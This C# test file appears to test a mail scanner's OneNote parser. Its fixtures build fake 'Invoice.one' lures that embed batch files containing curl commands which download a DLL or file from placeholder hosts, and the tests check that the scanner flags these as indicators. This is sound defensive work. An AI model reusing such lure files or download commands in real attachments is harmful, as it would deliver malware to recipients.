using System.Text;
using Lurewatch.Files;
using Lurewatch.Files.OneNote;
using Lurewatch.Samples;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Files.OneNote;

public sealed class OneNoteHandlerTests
{
    private static readonly byte[] s_png = [0x89, .. "PNG\r\n\u001a\n"u8, .. new byte[40]];
    private static readonly byte[] s_batch = Encoding.ASCII.GetBytes("curl https://one.example/a.dll -o a.dll\r\n");

    private static Analysis Scan(byte[] file) => new MailScanner(new ScanOptions { Strict = true }).Scan(file, "Invoice.one");

    private static OneNoteFacts Facts(Analysis analysis) => analysis.Artifacts[0].Facts.ShouldBeOfType<OneNoteFacts>();

    private static byte[] Section() => new OneNoteWriter().Picture(s_png, "logo.png").File("Open.bat", s_batch).File("second.bin", [1, 2, 3]).Text("Double click to view the invoice").Link("https://two.example/page").Write();

    [Fact]
    public void Files_come_out_with_the_names_that_the_page_gives_them()
    {
        var analysis = Scan(Section());
        var facts = Facts(analysis);
        facts.Files.ShouldBe([new OneNoteFile("logo.png", null, s_png.Length), new OneNoteFile("Open.bat", @"C:\Users\user\Desktop\Open.bat", s_batch.Length), new OneNoteFile("second.bin", @"C:\Users\user\Desktop\second.bin", 3)]);
        facts.Defects.ShouldBeEmpty();
        analysis.Artifacts.Skip(1).Take(3).Select(file => (file.Name, file.Type, file.Origin)).ShouldBe([("logo.png", FileType.Png, "image"), ("Open.bat", FileType.Batch, "embedded"), ("second.bin", FileType.Unknown, "embedded")]);
        analysis.Artifacts[2].Bytes.ToArray().ShouldBe(s_batch);
        analysis.Findings.ShouldContain(finding => finding.Kind.Id == "onenote.embedded-program");
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "https://one.example/a.dll" && indicator.Role == "download-url");
    }

    [Fact]
    public void Text_and_links_of_the_page_are_read()
    {
        var analysis = Scan(Section());
        Facts(analysis).Text.ShouldBe("Double click to view the invoice\n");
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "https://two.example/page" && indicator.Role == "link");
    }

    [Fact]
    public void Files_are_found_without_the_lists_that_name_them()
    {
        var file = Section();
        Array.Clear(file, 172, 12);
        var facts = Facts(Scan(file));
        facts.Files.Select(inside => inside.Size).ShouldBe([s_png.Length, s_batch.Length, 3]);
        facts.Files.ShouldAllBe(inside => inside.Name == null);
        facts.Text.ShouldContain("Double click to view the invoice");
    }

    [Fact]
    public void A_length_that_lies_ends_where_the_file_or_the_next_object_does()
    {
        var file = Section();
        var at = file.AsSpan().IndexOf((byte[])[0xE7, 0x16, 0xE3, 0xBD]);
        file[at + 20] = 0xff;
        var sizes = Facts(Scan(file)).Files.Select(inside => inside.Size).ToList();
        sizes.Count.ShouldBe(3);
        sizes[1].ShouldBe(s_batch.Length);
    }

    [Fact]
    public void The_form_that_servers_store_is_read_too()
    {
        var analysis = Scan(new OneNoteWriter().Picture(s_png).File("a.js", new byte[40_000]).File("b.bat", Encoding.ASCII.GetBytes("@echo off\r\ncurl https://three.example/x -o x\r\n")).Text("see https://four.example/").WritePackage());
        Facts(analysis).Format.ShouldBe("package-store");
        Facts(analysis).Files.Select(file => file.Size).ShouldBe([s_png.Length, 40_000, 46]);
        analysis.Indicators.ShouldContain(indicator => indicator.Value == "https://four.example/");
    }

    [Fact]
    public void Lists_that_lead_back_to_themselves_end()
    {
        var file = Section();
        var root = (int)BitConverter.ToInt64(file, 172);
        BitConverter.GetBytes((long)root).CopyTo(file, root + BitConverter.ToInt32(file, 180) - 20);
        BitConverter.GetBytes(BitConverter.ToInt32(file, 180)).CopyTo(file, root + BitConverter.ToInt32(file, 180) - 12);
        BitConverter.GetBytes((long)root).CopyTo(file, root + 20);
        Facts(Scan(file)).Files.Count.ShouldBe(3);
    }

    [Fact]
    public void Nothing_that_the_structure_claims_stops_the_reader()
    {
        var file = Section();
        for (var length = 16; length < file.Length; length += 7) Facts(Scan(file[..length]));
        for (var at = 40; at < file.Length; at += at < 1024 && at is < 160 or > 210 and < 1000 ? 64 : 1)
        {
            var broken = file.ToArray();
            broken[at] ^= 0xff;
            Facts(Scan(broken));
        }
    }
}
